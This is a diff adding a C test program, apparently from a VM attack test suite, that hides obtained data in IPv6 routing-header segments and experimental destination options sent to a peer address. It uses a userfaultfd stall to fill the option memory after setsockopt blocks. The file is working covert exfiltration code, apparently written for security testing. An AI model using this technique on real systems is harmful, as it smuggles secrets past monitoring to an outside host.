@@ -1,0 +1,137 @@
+// SPDX-License-Identifier: GPL-2.0
+/*
+ * option.c - the data in the options of a socket, which are in the headers of
+ * what it sends by itself
+ *
+ * usage: option syn-ack ADDRESS READY
+ *	  option blocked ADDRESS
+ *
+ * syn-ack: in a routing header of a listener, port 7000, to which ADDRESS
+ * connects once there is a file READY. blocked: setsockopt() copies it from
+ * memory that is filled when the data is obtained; then the connection is kept
+ * alive.
+ */
+#include <linux/userfaultfd.h>
+#include <pthread.h>
+#include <sys/ioctl.h>
+#include <sys/syscall.h>
+
+#include "tests/vm/attack/attack.h"
+
+#define SEGMENTS 30
+#define PADDING 252
+#define PAGE 4096
+
+/* A segment routing header whose only stop is the peer; the others are data. */
+struct route {
+	unsigned char next, len, type, left, last, flags;
+	unsigned short tag;
+	struct in6_addr stop[SEGMENTS];
+};
+
+static int sock;
+static char *page;
+
+static void answer_with_route(const union attack_addr *peer, const char *ready)
+{
+	union attack_addr any = attack_addr_port("::", 7000);
+	struct route route = {
+		.len = 2 * SEGMENTS,
+		.type = 4,
+		.left = SEGMENTS - 1,
+		.last = SEGMENTS - 1,
+	};
+	int one = 1;
+
+	sock = attack_socket(&any, SOCK_STREAM, 0);
+	setsockopt(sock, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
+	attack_do("bind", bind(sock, &any.any, attack_len(&any)));
+	attack_do("listen", listen(sock, 1));
+	attack_obtain();
+	memcpy(route.stop, data.bytes, sizeof(route.stop));
+	route.stop[SEGMENTS - 1] = peer->v6.sin6_addr;
+	if (setsockopt(sock, IPPROTO_IPV6, IPV6_RTHDR, &route, sizeof(route)))
+		attack_note("setsockopt", errno);
+	close(attack_do("ready", open(ready, O_CREAT | O_WRONLY, 0644)));
+	attack_poll(sock, POLLIN);
+}
+
+static void *set_option(void *unused)
+{
+	if (setsockopt(sock, IPPROTO_IPV6, IPV6_DSTOPTS, page, 8 + 3 * (PADDING + 4)))
+		attack_note("setsockopt", errno);
+	return NULL;
+}
+
+/* Destination options of an experimental kind, which receivers skip */
+static void fill(unsigned char *options)
+{
+	options[1] = 3 * (PADDING + 4) / 8;
+	for (int i = 0, at = 2; i < 3; i++, at += 2 + PADDING) {
+		options[at] = 0x1e;
+		options[at + 1] = PADDING;
+		memcpy(options + at + 2, data.bytes + i * PADDING, PADDING);
+	}
+}
+
+static void keep_alive(void)
+{
+	int one = 1;
+
+	setsockopt(sock, SOL_SOCKET, SO_KEEPALIVE, &one, sizeof(one));
+	setsockopt(sock, IPPROTO_TCP, TCP_KEEPIDLE, &one, sizeof(one));
+	setsockopt(sock, IPPROTO_TCP, TCP_KEEPINTVL, &one, sizeof(one));
+}
+
+static int make_fault(void)
+{
+	int fd = attack_do("userfaultfd", syscall(SYS_userfaultfd, O_CLOEXEC | O_NONBLOCK));
+	struct uffdio_register range = { .mode = UFFDIO_REGISTER_MODE_MISSING };
+	struct uffdio_api api = { .api = UFFD_API };
+
+	page = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+	range.range.start = (unsigned long)page;
+	range.range.len = PAGE;
+	attack_do("api", ioctl(fd, UFFDIO_API, &api));
+	attack_do("register", ioctl(fd, UFFDIO_REGISTER, &range));
+	return fd;
+}
+
+static void set_while_blocked(const char *peer)
+{
+	static unsigned char options[PAGE] __attribute__((aligned(PAGE)));
+	int fd = make_fault();
+	struct uffdio_copy copy = {
+		.dst = (unsigned long)page,
+		.src = (unsigned long)options,
+		.len = PAGE,
+	};
+	pthread_t thread;
+
+	sock = attack_connected(peer);
+	keep_alive();
+	pthread_create(&thread, NULL, set_option, NULL);
+	attack_poll(fd, POLLIN);
+	attack_obtain();
+	fill(options);
+	attack_do("copy", ioctl(fd, UFFDIO_COPY, &copy));
+	pthread_join(thread, NULL);
+	poll(NULL, 0, 2500);
+	/* It would go on sending, and later cases count that. */
+	shutdown(sock, SHUT_RDWR);
+	setsockopt(sock, IPPROTO_IPV6, IPV6_DSTOPTS, NULL, 0);
+}
+
+int main(int argc, char **argv)
+{
+	union attack_addr peer;
+
+	if (argc < 3)
+		return 2;
+	peer = attack_addr(argv[2]);
+	if (attack_is(argv, 1, "syn-ack"))
+		answer_with_route(&peer, argv[3]);
+	else
+		set_while_blocked(argv[2]);
+	return attack_status;
+}
